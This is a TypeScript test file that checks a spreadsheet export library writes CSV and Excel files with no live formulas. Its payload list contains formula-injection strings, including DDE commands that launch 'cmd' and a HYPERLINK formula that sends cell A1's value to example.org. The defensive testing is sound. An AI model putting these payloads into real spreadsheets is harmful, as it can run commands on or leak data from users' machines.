import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { PrintedDocument } from "../../../../lib/exchange/printed-table/printed-document";
import { writeCsv } from "../../../../lib/exchange/printed-table/write-csv";
import { writeXlsx } from "../../../../lib/exchange/printed-table/write-xlsx";
import { guardCell, unguardCell } from "../../../../lib/exchange/spreadsheet-cell";
import { readCsv, readSheets, readZip } from "./read-back";

const beginnings = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "'=", "''+"];
const bodies = [
  "1+1",
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://example.org?x="&A1,"open")',
  "SUM(1,2)",
  "",
  " 1",
  'IMPORTXML(CONCAT("http://example.org"),"//a")',
  'DDE("cmd";"/C calc";"!A0")',
  "1\n=2",
  '"quoted",=3',
  "Interviewee 3",
  "é́ 😀",
  'WEBSERVICE("http://example.org")',
  "_xlfn.FILTERXML(1)",
  "'A'!A1",
  "{=1}",
];
/** 13 × 16 payloads: every beginning that a spreadsheet program computes, before every kind of body. */
const payloads = beginnings.flatMap((start) => bodies.map((body) => `${start}${body}`));

const documentOf = (values: readonly string[]): PrintedDocument => ({
  title: "=title",
  language: "en",
  tables: [],
  notes: [],
  sheets: [{ name: "=sheet", head: ["=head"], rows: values.map((value) => [value]) }],
  about: [["=word", "=value"]],
  madeAt: "2024-05-03T09:30:00.000Z",
});

describe("S15 spreadsheets that we write hold no live formula", () => {
  test("S15 no CSV cell begins with a sign of formulas, and reading back loses nothing", () => {
    expect(payloads.length).toBeGreaterThanOrEqual(200);
    const rows = readCsv(writeCsv(documentOf(payloads)));
    const cells = rows.flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/u.test(cell))).toEqual([]);
    expect(rows.slice(1).map(([cell = ""]) => unguardCell(cell))).toEqual(payloads);
  });

  test("S15 Excel cells are typed strings: the file holds no formula element", async () => {
    const bytes = await writeXlsx(documentOf(payloads), "About");
    const entries = await readZip(bytes);
    const sheets = [...entries].filter(([name]) => name.startsWith("xl/worksheets/"));
    expect(sheets.length).toBe(2);
    for (const [, xml] of sheets) expect(xml).not.toMatch(/<f[ >/]/);
    for (const [name] of entries) expect(name).not.toMatch(/externalLink|connections|calcChain/);
    const [, ...rows] = Object.values(await readSheets(bytes))[0] ?? [];
    const line = (text: string) => text.replaceAll("\r\n", "\n").replaceAll("\r", "\n");
    expect(rows.map(([cell]) => line(String(cell)))).toEqual(payloads.map(line));
  });

  test("S15 any text comes back from the guard as it was, and guarded it begins no formula", () => {
    const anyText = fc
      .array(fc.integer({ min: 0, max: 0x10ffff }), { maxLength: 40 })
      .map((points) => String.fromCodePoint(...points));
    const text = fc.oneof(
      anyText,
      fc.tuple(fc.constantFrom(...beginnings), anyText).map(([start, rest]) => start + rest),
    );
    fc.assert(
      fc.property(text, (value) => {
        expect(unguardCell(guardCell(value))).toBe(value);
        expect(guardCell(value)).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/u);
      }),
    );
  });

  test("an ordinary text is left alone", () => {
    for (const text of ["3 of 7", "", "'tis", "a=b", "1, 5, 6"]) expect(guardCell(text)).toBe(text);
  });
});
